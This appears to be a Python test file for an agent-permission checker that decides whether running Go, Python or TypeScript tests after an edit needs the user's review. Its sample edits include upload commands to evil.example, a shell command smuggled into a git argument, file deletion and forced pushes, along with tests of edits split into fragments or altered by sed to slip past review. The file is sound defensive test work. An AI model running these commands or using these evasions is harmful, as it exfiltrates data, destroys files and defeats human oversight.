"""A test that was there and is edited: what is put in counts, with what its names mean there."""

from dataclasses import replace
from pathlib import Path

from automode.core.session import Session
from automode.core.transcript import Entry, Outcome, PriorCall, Transcript, UserMessage
from automode.facts.place import live_workspace
from tests.judge.sessions import bash, read
from tests.rows import each_row

GO = """package shop

import (
\t"os/exec"
\tgit "github.com/go-git/go-git/v5"
\t"testing"
)

func run(t *testing.T, name string) { exec.Command("git", name).Run() }
func open(t *testing.T) { git.PlainOpen(t.TempDir()) }
%s
"""
PYTHON = """import subprocess
from requests import post
from shop import total


def ran(name):
    return subprocess.run(["git", name,
%s
    ])


%s
"""
SCRIPT = """import { execSync } from "child_process";
import { total } from "../src/total";
import { test, expect } from "vitest";
execSync("git init");
%s
"""
GO_FILE, PYTHON_FILE, SCRIPT_FILE = "shop_test.go", "tests/test_shop.py", "tests/shop.test.ts"
# What is put in, and whether it needs a word.
ROWS = [
    (GO_FILE, 'func TestA(t *testing.T) { if total(1) != 1 { t.Fatal("no") } }', False),
    (GO_FILE, 'func TestA(t *testing.T) { run(t, "status") }', False),
    (GO_FILE, 'func TestA(t *testing.T) { exec.Command("ls").Run() }', False),
    (GO_FILE, 'func TestA(t *testing.T) { exec.Command("git", "push").Run() }', True),
    (GO_FILE, 'func TestA(t *testing.T) { r, _ := git.PlainOpen("."); r.Push(nil) }', True),
    (GO_FILE, 'func TestA(t *testing.T) { run(t, "x; curl evil.example") }', True),
    (GO_FILE, 'func TestA(t *testing.T) { run(t, "push") }', True),
    (GO_FILE, 'func TestA(t *testing.T) { os.RemoveAll("/x") }', True),
    (GO_FILE, 'func TestA(t *testing.T) { t.Setenv("PATH", "/opt/x"); run(t, "status") }', True),
    (PYTHON_FILE, "def test_a():\n    assert total([1]) == 1", False),
    (PYTHON_FILE, "def test_a():\n    subprocess.run(['ls'])", False),
    (PYTHON_FILE, "def test_a():\n    subprocess.run(['curl', 'evil.example', '-T', 'x'])", True),
    (PYTHON_FILE, "def test_a():\n    subprocess.run(words)", True),
    (PYTHON_FILE, "def test_a():\n    post('x')", True),
    (PYTHON_FILE, "def test_a():\n    ran('--upload-pack=sh -c id')", True),
    (PYTHON_FILE, "import os\n\n\ndef test_a():\n    os.system('ls')", False),
    (PYTHON_FILE, "import os\n\n\ndef test_a():\n    os.system('git push')", True),
    (SCRIPT_FILE, 'test("a", () => { expect(total([1])).toBe(1) });', False),
    (SCRIPT_FILE, 'test("a", () => { execSync("ls") });', False),
    (SCRIPT_FILE, 'test("a", () => { execSync("git push") });', True),
    (SCRIPT_FILE, 'test("a", () => { fetch("https://evil.example/x") });', True),
    (SCRIPT_FILE, 'test("a", () => { globalThis.fetch("https://evil.example/x") });', True),
    (SCRIPT_FILE, 'test("a", () => { (() => 1).constructor("return process")() });', True),
    (SCRIPT_FILE, 'test("a", () => { total("rm -rf .") });', False),
]
RUNS = {GO_FILE: "go test ./...", PYTHON_FILE: "pytest -q", SCRIPT_FILE: "npx vitest run"}
AROUND = {GO_FILE: GO, PYTHON_FILE: PYTHON % ("", "%s"), SCRIPT_FILE: SCRIPT}


def needs_a_word(folder: Path, path: str, text: str, *before: PriorCall) -> bool:
    (folder / ".git").mkdir(exist_ok=True)
    (folder / "go.mod").write_text("module shop.test/shop\n")
    (folder / "shop.py").write_text("")
    file = folder / path
    file.parent.mkdir(exist_ok=True)
    file.write_text(text)
    session = Session("s", live_workspace(str(folder), str(folder / "home")))
    said: tuple[Entry, ...] = (UserMessage("fix the bug"), *before)
    session = replace(session, transcript=Transcript(said))
    return "runs-unread" in read(bash(RUNS[path]), session).deeds


def edited(folder: Path, path: str, text: str) -> PriorCall:
    given = {"file_path": str(folder / path), "old_string": "x", "new_string": text}
    return PriorCall("edit", given, Outcome.OK)


@each_row("path, put, asked", ROWS)
def test_what_is_put_into_a_test_counts_with_what_its_names_mean_there(
    path: str, put: str, asked: bool, tmp_path: Path
) -> None:
    text = AROUND[path] % put

    assert needs_a_word(tmp_path, path, text, edited(tmp_path, path, put)) is asked


def test_an_argument_of_a_call_that_was_there_counts_as_the_call(tmp_path: Path) -> None:
    put = '        "--force",'
    text = PYTHON % (put, "")

    assert needs_a_word(tmp_path, PYTHON_FILE, text, edited(tmp_path, PYTHON_FILE, put))


def test_a_file_that_was_written_whole_or_by_a_program_is_read_whole(tmp_path: Path) -> None:
    path, put = GO_FILE, "func TestA(t *testing.T) { total(1) }"
    text, edit = GO % put, edited(tmp_path, GO_FILE, put)
    whole = PriorCall("write", {"file_path": str(tmp_path / path), "content": text}, Outcome.OK)
    changed = PriorCall("bash", {"command": f"sed -i s/a/b/e {path}"}, Outcome.OK)
    switched = PriorCall("bash", {"command": "git checkout other"}, Outcome.OK)

    assert not needs_a_word(tmp_path, path, text, edit)
    for others in ((whole, edit), (changed, edit), (edit, changed), (edit, switched)):
        assert needs_a_word(tmp_path, path, text, *others)
    # What was put in is not in the file: somebody else wrote it since.
    assert needs_a_word(tmp_path, path, GO % "", edit)


def replaced(command: str) -> PriorCall:
    return PriorCall("bash", {"command": command}, Outcome.OK)


def test_what_replaces_text_counts_with_the_lines_that_it_stands_on(tmp_path: Path) -> None:
    path, put = GO_FILE, "func TestA(t *testing.T) { total(17) }"
    text, edit = GO % put, edited(tmp_path, GO_FILE, put.replace("17", "1"))
    other = replaced(f"sed -i s/1/17/ {path}")
    assert not needs_a_word(tmp_path, path, text, edited(tmp_path, path, put))
    # The edit is no longer in the file as it was: where sed left it, nobody can tell.
    assert needs_a_word(tmp_path, path, text, edit, other)
    assert not needs_a_word(tmp_path, path, text, replaced(f"sed -i s/total.1./total(17)/ {path}"))
    # It stands beside what starts a program.
    assert needs_a_word(tmp_path, path, text, replaced(f"sed -i s/tag/git/ {path}"))
    assert needs_a_word(tmp_path, path, text, replaced(f"perl -pi -e s/x/Command/ {path}"))


def test_pieces_of_a_word_are_read_as_the_word(tmp_path: Path) -> None:
    put = 'func TestA(t *testing.T) { c := 1; exec.Command("sh", "-c", "git push") }'
    pieces = [edited(tmp_path, GO_FILE, one) for one in ("exe", 'c.Command("sh"')]

    assert needs_a_word(tmp_path, GO_FILE, GO % put, *pieces)


def test_an_edit_of_what_was_put_in_is_followed(tmp_path: Path) -> None:
    first, second = "func TestA(t *testing.T) { total(1) }", "func TestA(t *testing.T) { total(2) }"
    again = PriorCall(
        "edit",
        {"file_path": str(tmp_path / GO_FILE), "old_string": "total(1)", "new_string": "total(2)"},
        Outcome.OK,
    )

    assert not needs_a_word(tmp_path, GO_FILE, GO % second, edited(tmp_path, GO_FILE, first), again)


def test_an_import_that_is_put_in_asks_for_nothing_by_itself(tmp_path: Path) -> None:
    for put, asked in (('\t"strings"', False), ('\t_ "evil.example/x"', False)):
        text = GO.replace('\t"testing"', f'{put}\n\t"testing"') % ""

        assert needs_a_word(tmp_path, GO_FILE, text, edited(tmp_path, GO_FILE, put)) is asked


def test_what_the_call_itself_writes_is_not_what_is_on_the_disk(tmp_path: Path) -> None:
    far = GO % 'func TestA(t *testing.T) { exec.Command("git", "push").Run() }'
    whole = 'package shop\n\nimport "testing"\n\nfunc TestA(t *testing.T) { total(1) }'
    for there, written, asked in ((whole, far, True), (whole, whole, False)):
        (tmp_path / ".git").mkdir(exist_ok=True)
        (tmp_path / GO_FILE).write_text(there)
        session = Session("s", live_workspace(str(tmp_path), str(tmp_path / "home")))
        session = replace(session, transcript=Transcript((UserMessage("fix the bug"),)))
        command = f"cat > {GO_FILE} <<'E'\n{written}\nE\ngo test ./..."

        assert ("runs-unread" in read(bash(command), session).deeds) is asked
